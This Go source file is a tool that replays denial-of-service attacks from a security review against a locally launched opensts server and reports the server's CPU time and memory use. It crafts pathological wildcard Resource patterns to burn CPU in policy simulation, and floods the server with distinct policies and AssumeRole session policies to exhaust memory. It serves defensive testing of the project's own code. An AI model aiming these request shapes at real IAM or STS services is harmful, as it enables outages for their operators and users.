// Command exhaust replays the resource-exhaustion attacks of the security
// review (issue 8) against a real `opensts serve` process and reports what
// they cost the server, read from /proc (Linux only):
//
//   - -attack cpu: one SimulateCustomPolicy with -actions actions on
//     -resources resource ARNs of -arnlen characters and a policy whose
//     Resource patterns are pathological wildcards (-patterns of them,
//     "arn:aws:s3:::*aaaa…a?b", 100 a policy in one Resource list). It prints the answer and the server's CPU
//     time until the server is idle again, so work that goes on after the
//     client gave up (-timeout) is counted too.
//   - -attack memory: distinct policies of about -policysize bytes through
//     SimulateCustomPolicy from -concurrency clients for -duration; it prints
//     the server's resident memory (VmRSS) as it goes and its peak (VmHWM).
//   - -attack sessions: the same with AssumeRole and distinct session
//     policies (2 KB each, of 480 "*" resources: the shape that compiles to
//     the most memory), which go through the server's policy cache.
//
// Examples:
//
//	go run ./internal/tools/exhaust -attack cpu
//	go run ./internal/tools/exhaust -attack cpu -timeout 2s
//	go run ./internal/tools/exhaust -attack memory -duration 60s
//	go run ./internal/tools/exhaust -bin /tmp/opensts-before -attack memory
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"
	"github.com/opensts/opensts/internal/tools/devserver"
)

func main() {
	bin := flag.String("bin", "", "run this opensts binary instead of building one")
	attack := flag.String("attack", "cpu", "cpu or memory")
	actions := flag.Int("actions", 40, "cpu: actions simulated")
	resources := flag.Int("resources", 400, "cpu: resource ARNs simulated")
	arnLen := flag.Int("arnlen", 2048, "cpu: length of each resource ARN")
	patterns := flag.Int("patterns", 1, "cpu: pathological Resource patterns in the policy")
	stars := flag.Int("stars", 40, "cpu: length of the run of 'a's in each pattern")
	suffix := flag.String("suffix", "", "cpu: text after each pattern's \"?b\" (\"*\" makes the run a middle one)")
	timeout := flag.Duration("timeout", 0, "cpu: the client gives up after this long (0: waits)")
	duration := flag.Duration("duration", 60*time.Second, "memory: how long to send policies")
	conc := flag.Int("concurrency", 4, "memory: concurrent clients")
	policySize := flag.Int("policysize", 10240, "memory: size of each distinct policy")
	flag.Parse()
	if err := run(*bin, *attack, cpuParams{*actions, *resources, *arnLen, *patterns, *stars, *suffix, *timeout}, *duration, *conc, *policySize); err != nil {
		log.Fatal(err)
	}
}

type cpuParams struct {
	actions, resources, arnLen, patterns, stars int
	suffix                                      string
	timeout                                     time.Duration
}

func run(bin, attack string, cp cpuParams, duration time.Duration, conc, policySize int) error {
	srv, err := devserver.Start(bin)
	if err != nil {
		return err
	}
	defer srv.Close()
	endpoint := srv.Endpoint
	client := iam.NewFromConfig(aws.Config{Region: "us-east-1", BaseEndpoint: aws.String(endpoint), RetryMaxAttempts: 1,
		Credentials: credentials.NewStaticCredentialsProvider(devserver.RootKey, devserver.RootSecret, ""),
		HTTPClient:  &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: conc}}})
	pid := srv.Pid()
	switch attack {
	case "cpu":
		return cpuAttack(client, pid, cp)
	case "memory":
		return memoryAttack(pid, duration, conc, "distinct policies of about "+strconv.Itoa(policySize)+" bytes through SimulateCustomPolicy",
			func(w, i int) error {
				_, err := client.SimulateCustomPolicy(context.Background(), &iam.SimulateCustomPolicyInput{PolicyInputList: []string{distinctPolicy(w, i, policySize)}, ActionNames: []string{"s3:GetObject"}})
				return err
			})
	case "sessions":
		cfg := aws.Config{Region: "us-east-1", BaseEndpoint: aws.String(endpoint), RetryMaxAttempts: 1,
			HTTPClient: &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: conc}}}
		akid, secret, roleARN, err := sessionSetup(client)
		if err != nil {
			return err
		}
		cfg.Credentials = credentials.NewStaticCredentialsProvider(akid, secret, "")
		st := sts.NewFromConfig(cfg)
		return memoryAttack(pid, duration, conc, "AssumeRole with distinct 2 KB session policies of 480 \"*\" resources",
			func(w, i int) error {
				_, err := st.AssumeRole(context.Background(), &sts.AssumeRoleInput{RoleArn: aws.String(roleARN), RoleSessionName: aws.String("attack"),
					Policy: aws.String(fmt.Sprintf(`{"Version":"2012-10-17","Statement":{"Sid":"W%dN%d","Effect":"Allow","Action":"s3:*","Resource":[%s"*"]}}`, w, i, strings.Repeat(`"*",`, 479)))})
				return err
			})
	}
	return fmt.Errorf("-attack %q: want cpu, memory or sessions", attack)
}

func cpuAttack(c *iam.Client, pid int, p cpuParams) error {
	// Up to 100 patterns a policy (identity policies are at most 10,240
	// characters), in the Resource list of its one statement.
	in := &iam.SimulateCustomPolicyInput{MaxItems: aws.Int32(1000)}
	for i := 0; i < p.patterns; i += 100 {
		var res []string
		for range min(100, p.patterns-i) {
			res = append(res, fmt.Sprintf(`"arn:aws:s3:::*%s?b%s"`, strings.Repeat("a", p.stars), p.suffix))
		}
		in.PolicyInputList = append(in.PolicyInputList, `{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"s3:*","Resource":[`+strings.Join(res, ",")+`]}}`)
	}
	for i := range p.actions {
		in.ActionNames = append(in.ActionNames, fmt.Sprintf("s3:Action%d", i))
	}
	prefix := "arn:aws:s3:::"
	for i := range p.resources {
		tail := strconv.Itoa(i)
		in.ResourceArns = append(in.ResourceArns, prefix+strings.Repeat("a", max(0, p.arnLen-len(prefix)-len(tail)))+tail)
	}
	fmt.Printf("SimulateCustomPolicy: %d actions x %d resources of %d characters, %d pattern(s) \"arn:aws:s3:::*%s?b%s\" in %d policies\n",
		p.actions, p.resources, p.arnLen, p.patterns, strings.Repeat("a", p.stars), p.suffix, len(in.PolicyInputList))
	cpu0, err := cpuTime(pid)
	if err != nil {
		return err
	}
	ctx := context.Background()
	if p.timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, p.timeout)
		defer cancel()
	}
	t0 := time.Now()
	out, err := c.SimulateCustomPolicy(ctx, in)
	wall := time.Since(t0)
	cpuAnswer, _ := cpuTime(pid)
	var ae smithy.APIError
	switch {
	case errors.As(err, &ae):
		fmt.Printf("answer after %s: %s: %s\n", wall.Round(time.Millisecond), ae.ErrorCode(), trim(ae.ErrorMessage()))
	case err != nil:
		fmt.Printf("client gave up after %s: %s\n", wall.Round(time.Millisecond), trim(err.Error()))
	default:
		fmt.Printf("answer after %s: %d results\n", wall.Round(time.Millisecond), len(out.EvaluationResults))
	}
	// Wait until the server is idle: no CPU for a whole second.
	last, idleSince := cpuAnswer, time.Now()
	for time.Since(idleSince) < time.Second {
		time.Sleep(100 * time.Millisecond)
		cur, err := cpuTime(pid)
		if err != nil {
			return err
		}
		if cur > last+20*time.Millisecond {
			last, idleSince = cur, time.Now()
		}
	}
	fmt.Printf("server CPU: %s until the answer, %s in all (%s after the client was gone or answered)\n",
		(cpuAnswer - cpu0).Round(time.Millisecond), (last - cpu0).Round(time.Millisecond), (last - cpuAnswer).Round(time.Millisecond))
	return nil
}

func trim(s string) string {
	if len(s) > 200 {
		return s[:200] + "…"
	}
	return s
}

// sessionSetup creates a user with an access key and a role it may assume.
func sessionSetup(c *iam.Client) (akid, secret, roleARN string, err error) {
	ctx := context.Background()
	if _, err = c.CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String("attacker")}); err != nil {
		return
	}
	k, err := c.CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String("attacker")})
	if err != nil {
		return
	}
	trust := `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::` + devserver.Account + `:user/attacker"},"Action":"sts:AssumeRole"}]}`
	r, err := c.CreateRole(ctx, &iam.CreateRoleInput{RoleName: aws.String("target"), AssumeRolePolicyDocument: aws.String(trust)})
	if err != nil {
		return
	}
	return *k.AccessKey.AccessKeyId, *k.AccessKey.SecretAccessKey, *r.Role.Arn, nil
}

// memoryAttack runs send(w, i) from conc clients w for duration and
// reports the server's resident memory.
func memoryAttack(pid int, duration time.Duration, conc int, what string, send func(w, i int) error) error {
	rss0, _ := devserver.ProcStatus(pid, "VmRSS")
	fmt.Printf("%s, %d clients, %s; VmRSS at start %.1f MiB\n", what, conc, duration, float64(rss0)/1024)
	var sent, failed atomic.Int64
	var firstErr atomic.Value
	ctx, cancel := context.WithTimeout(context.Background(), duration)
	defer cancel()
	var wg sync.WaitGroup
	for w := range conc {
		wg.Go(func() {
			for i := 0; ctx.Err() == nil; i++ {
				err := send(w, i)
				if ctx.Err() != nil {
					return
				}
				if err != nil {
					failed.Add(1)
					firstErr.CompareAndSwap(nil, err.Error())
					continue
				}
				sent.Add(1)
			}
		})
	}
	t := time.NewTicker(5 * time.Second)
	defer t.Stop()
	start := time.Now()
loop:
	for {
		select {
		case <-ctx.Done():
			break loop
		case <-t.C:
			rss, _ := devserver.ProcStatus(pid, "VmRSS")
			fmt.Printf("  %3.0fs: %6d requests, VmRSS %.1f MiB\n", time.Since(start).Seconds(), sent.Load(), float64(rss)/1024)
		}
	}
	wg.Wait()
	rss, _ := devserver.ProcStatus(pid, "VmRSS")
	hwm, _ := devserver.ProcStatus(pid, "VmHWM")
	fmt.Printf("%d requests (%d failed); VmRSS at end %.1f MiB, peak (VmHWM) %.1f MiB\n", sent.Load(), failed.Load(), float64(rss)/1024, float64(hwm)/1024)
	if e := firstErr.Load(); e != nil {
		fmt.Printf("first failure: %s\n", trim(e.(string)))
	}
	return nil
}

// distinctPolicy is a valid identity policy of about size bytes, different
// for every (w, i).
func distinctPolicy(w, i, size int) string {
	var b strings.Builder
	fmt.Fprintf(&b, `{"Version":"2012-10-17","Statement":[{"Sid":"W%dN%d","Effect":"Allow","Action":["s3:GetObject","s3:PutObject"],"Resource":[`, w, i)
	for n := 0; b.Len() < size-64; n++ {
		if n > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"arn:aws:s3:::bucket-%d-%d/prefix-%d/*"`, w, i, n)
	}
	b.WriteString(`]}]}`)
	return b.String()
}

// cpuTime is the user plus system CPU time of process pid.
func cpuTime(pid int) (time.Duration, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0, err
	}
	// Fields after the command name (which is in parentheses): state is
	// field 3, utime 14, stime 15.
	f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+2:]))
	utime, _ := strconv.ParseInt(f[11], 10, 64)
	stime, _ := strconv.ParseInt(f[12], 10, 64)
	const clkTck = 100 // USER_HZ on Linux
	return time.Duration(utime+stime) * time.Second / clkTck, nil
}
